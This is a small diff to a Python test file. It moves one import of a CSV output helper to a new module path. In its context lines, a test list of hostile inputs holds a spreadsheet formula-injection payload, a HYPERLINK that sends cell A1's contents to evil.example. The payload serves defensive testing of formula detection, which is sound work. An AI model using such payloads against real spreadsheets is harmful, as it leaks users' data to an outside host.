@@ -14,7 +14,7 @@ import pytest
 
 from qpignn import Intervals
 from qpignn.cli.output import printable
-from qpignn.csv_output import is_formula, to_csv
+from qpignn.io.csv_output import is_formula, to_csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
